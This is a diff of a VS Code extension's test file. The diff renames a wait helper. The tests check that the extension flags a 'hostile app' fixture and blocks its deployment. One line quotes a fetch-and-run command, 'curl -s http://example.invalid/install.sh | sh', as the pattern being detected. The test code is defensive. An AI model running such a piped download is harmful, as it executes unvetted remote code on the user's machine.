@@ -3,7 +3,7 @@ import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import * as vscode from 'vscode';
-import { appUri, getApi, readText, reset, waitFor, writeText } from './helpers';
+import { appUri, getApi, readText, reset, until, writeText } from './helpers';
 
 describe('diagnostics for a hostile app', () => {
   let dir: string;
@@ -46,18 +46,18 @@ describe('diagnostics for a hostile app', () => {
     assert.equal(appName, 'hostile');
     const manifestText = await readText(appUri(appName, 'spawn-app.json'));
     const startLine = manifestText.split('\n').findIndex((l) => l.includes('"startCommand"'));
-    const err = await waitFor(() => diagnostics('spawn-app.json').find((d) => d.code === 'start.piped_download'), 'the piped-download diagnostic');
+    const err = await until(() => diagnostics('spawn-app.json').find((d) => d.code === 'start.piped_download'), 'the piped-download diagnostic');
     assert.equal(err.severity, vscode.DiagnosticSeverity.Error);
     assert.equal(err.range.start.line, startLine);
     assert.equal(err.source, 'Spawn App');
-    const warn = await waitFor(() => diagnostics('app.js').find((d) => d.code === 'code.eval'), 'the eval diagnostic');
+    const warn = await until(() => diagnostics('app.js').find((d) => d.code === 'code.eval'), 'the eval diagnostic');
     assert.equal(warn.severity, vscode.DiagnosticSeverity.Warning);
     assert.equal(warn.range.start.line, 2);
   });
 
   it('errors block the deploy: nothing is created', async () => {
     const api = await getApi();
-    await waitFor(() => diagnostics('spawn-app.json').length > 0, 'the manifest error');
+    await until(() => diagnostics('spawn-app.json').length > 0, 'the manifest error');
     const r = await vscode.commands.executeCommand('spawnApp.deploy', { appId, confirm: true });
     assert.equal(r, undefined);
     assert.equal(api.testing.reporter.lastError?.code, 'blocked');
@@ -68,19 +68,19 @@ describe('diagnostics for a hostile app', () => {
     const uri = appUri(appName, 'spawn-app.json');
     const good = await readText(uri);
     await writeText(uri, '{\n  "appType": "webapp",\n  oops\n}\n');
-    const broken = await waitFor(() => diagnostics('spawn-app.json').find((d) => d.code === 'manifest.invalid'), 'the invalid-manifest diagnostic');
+    const broken = await until(() => diagnostics('spawn-app.json').find((d) => d.code === 'manifest.invalid'), 'the invalid-manifest diagnostic');
     assert.equal(broken.range.start.line, 2);
     assert.equal(diagnostics('app.js').length, 0, 'no spec, so no code findings either');
 
     await writeText(uri, good.replace('curl -s http://example.invalid/install.sh | sh', 'node server.js'));
-    await waitFor(() => diagnostics('spawn-app.json').length === 0, 'the manifest errors to clear');
-    await waitFor(() => diagnostics('app.js').some((d) => d.code === 'code.eval'), 'the eval warning to stay');
+    await until(() => diagnostics('spawn-app.json').length === 0, 'the manifest errors to clear');
+    await until(() => diagnostics('app.js').some((d) => d.code === 'code.eval'), 'the eval warning to stay');
   });
 
   it('clears an app’s diagnostics when the app is deleted', async () => {
-    await waitFor(() => diagnostics('app.js').length > 0, 'the diagnostics first');
+    await until(() => diagnostics('app.js').length > 0, 'the diagnostics first');
     await vscode.commands.executeCommand('spawnApp.file.delete', { uri: appUri(appName), kind: 'app' }, { confirm: true });
-    await waitFor(() => diagnostics('app.js').length === 0, 'the diagnostics to clear');
+    await until(() => diagnostics('app.js').length === 0, 'the diagnostics to clear');
     const api = await getApi();
     assert.equal(api.tree.app(appId), undefined);
   });
